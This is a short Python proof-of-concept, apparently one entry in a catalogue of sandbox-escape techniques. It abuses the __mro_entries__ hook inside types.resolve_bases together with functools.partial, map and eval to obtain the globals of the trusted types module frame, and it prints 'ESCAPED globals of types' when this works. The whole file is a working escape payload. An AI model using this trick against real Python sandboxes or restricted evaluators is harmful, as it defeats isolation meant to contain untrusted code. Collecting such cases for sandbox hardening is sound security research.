# technique: types.resolve_bases calls __mro_entries__
# goal: globals
# source: own analysis: the default namespace of globals, below a trusted frame
import functools
import types
kept = []


class Base:
    __mro_entries__ = staticmethod(functools.partial(dict.fromkeys, map(kept.append, map(eval, ['globals()']))))


try:
    types.resolve_bases([Base()])
except TypeError:
    pass
if kept[0]['__name__'] == 'types':
    print('ESCAPED globals of types')
